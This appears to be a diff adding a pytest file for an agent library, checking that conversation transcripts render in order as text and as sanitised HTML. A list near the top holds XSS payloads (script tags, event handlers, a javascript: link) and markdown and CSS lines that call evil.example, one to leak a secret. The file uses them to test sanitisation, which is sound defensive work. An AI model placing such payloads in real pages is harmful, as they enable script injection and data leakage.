@@ -1,0 +1,127 @@
+"""The conversation of a trace, message by message: cleaned HTML, and the same as plain text."""
+
+import asyncio
+import html
+import re
+
+import pytest
+
+from nbagent import Agent, FunctionCall, LLMResponse, ScriptedProvider, Trace, Usage
+from nbagent.errors import ConfigurationError
+
+HOSTILE = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![leak](http://evil.example/?secret)",
+    "[x](javascript:alert(1))", "</pre></div></details><svg onload=alert(1)>", '"><iframe srcdoc="x">',
+    "<style>@import url(http://evil.example)</style>",
+]  # fmt: skip
+
+
+def mean(column: str) -> float:
+    """A mean."""
+    return {"mass": 4.2}[column]
+
+
+def claude(*turns):
+    provider = ScriptedProvider(turns, model="claude-sonnet-5")
+    provider.vendor = "claude"
+    return provider
+
+
+def seen(page: str) -> str:
+    """What a reader sees."""
+    return html.unescape(re.sub(r"<[^>]*>", " ", re.sub(r"<style>.*?</style>", "", page, flags=re.DOTALL)))
+
+
+@pytest.fixture
+async def trace():
+    facts = {"thinking": "Look it up.", "usage": Usage(1200, 86, 980)}
+    calls = [FunctionCall("mean", {"column": "mass"}, "1"), FunctionCall("mean", {"column": "x"}, "2")]
+    calls.append(FunctionCall("mean", {}, "3"))
+    answer = LLMResponse("It is **4.2** kg.", None, "stop", {"usage": Usage(1300, 12)})
+    agent = Agent(claude(LLMResponse("Let me see.", calls, None, facts), answer, ValueError("broken")), tools=[mean])
+    agent.system_prompt = "Be brief."
+    await agent.chat("How heavy?")
+    with pytest.raises(ValueError, match="broken"):
+        await agent.chat("And now?")
+    return agent.trace
+
+
+async def test_it_is_told_in_order_with_results_beside_their_calls(trace):
+    lines = str(trace.transcript()).splitlines()
+    heads = [line for line in lines if not line.startswith(" ")]
+    wanted = [
+        "system: Be brief.", "user: How heavy?", "assistant (thinking): Look it up.", "assistant: Let me see.",
+        '▸ mean(column="mass")  ✓', '▸ mean(column="x")  ✗ error', "▸ mean()  arguments invalid, sent back",
+        "[claude-sonnet-5 · 1,200 in · 86 out · $", "assistant: It is **4.2** kg.",
+        "[claude-sonnet-5 · 1,300 in · 12 out", "user: And now?", "Ended: error: ValueError: broken",
+    ]  # fmt: skip
+    assert len(heads) == len(wanted)
+    assert [line for line, start in zip(heads, wanted, strict=True) if not line.startswith(start)] == []
+    assert lines[lines.index(next(line for line in lines if "mass" in line)) + 1] == "  4.2"
+    assert repr(trace.transcript()) == str(trace.transcript())
+
+
+async def test_html_says_the_same(trace):
+    page = trace.transcript()._repr_html_()
+    text = seen(page)
+    told = ["Be brief.", "How heavy?", "Look it up.", 'mean(column="mass")', "4.2", "error", "And now?", "broken"]
+    places = [text.index(part) for part in told]
+    assert places == sorted(places)
+    assert "<strong>4.2</strong>" in page
+    assert page.count("<details ") == 4
+    assert "1,200 in" in text
+
+
+async def test_one_run_of_several(trace):
+    first, second = trace.runs["run_id"]
+    assert "And now?" not in str(trace.transcript(first))
+    assert str(trace.transcript(second)).startswith("user: And now?")
+    assert trace.to_text("transcript", second) == str(trace.transcript(second))
+    with pytest.raises(ConfigurationError, match="no run 'x'"):
+        trace.transcript("x")
+
+
+async def test_nothing_in_it_is_live(tmp_path):
+    text = "\n\n".join(HOSTILE)
+
+    def echo(text: str) -> str:
+        """Say it again."""
+        return text
+
+    calls = [FunctionCall(each, {"text": each, each: each}, f"u{i}") for i, each in enumerate(HOSTILE)]
+    calls += [FunctionCall("echo", {"text": each}, f"e{i}") for i, each in enumerate(HOSTILE)]
+    turns = [LLMResponse(text, calls, None, {"thinking": text}), text, RuntimeError(text)]
+    agent = Agent(ScriptedProvider(turns, model=HOSTILE[1]), tools=[echo], system_prompt=text)
+    await agent.chat(text)
+    with pytest.raises(RuntimeError):
+        await agent.chat(text)
+    page = agent.trace.transcript()._repr_html_()
+    own = page[: page.index("</style>")]
+    rest = page[len(own) + len("</style>") :]
+    tags = {tag.lower() for tag in re.findall(r"<\s*([a-zA-Z]+)", rest)}
+    assert tags <= {"div", "span", "p", "a", "details", "summary", "code", "pre", "small"}
+    assert not re.search(r"<[^>]*\b(on\w+|src|srcdoc)\s*=", rest)
+    assert not re.search(r"href=.?(?!https?:)", rest.replace('href="http', ""))
+    assert "alert(1)" in seen(page)  # it is there to be read
+    agent.trace.save(tmp_path / "t.jsonl")
+    assert Trace.load(tmp_path / "t.jsonl").transcript()._repr_html_() == page
+
+
+async def test_a_run_that_was_cut_off():
+    async def slow() -> str:
+        """Take long."""
+        await asyncio.sleep(60)
+
+    agent = Agent(ScriptedProvider([FunctionCall("slow", {}, "1")]), tools=[slow])
+    async with agent.chat_stream("Go.") as stream:
+        async for event in stream:
+            if event.type == "tool_started":
+                break
+    text = str(agent.trace.transcript())
+    assert "▸ slow()" in text
+    assert text.endswith("Ended: interrupted")
+
+
+def test_an_empty_trace_says_so():
+    assert str(Trace().transcript()) == "Nothing was said yet."
+    assert "Nothing was said yet." in Trace().transcript()._repr_html_()
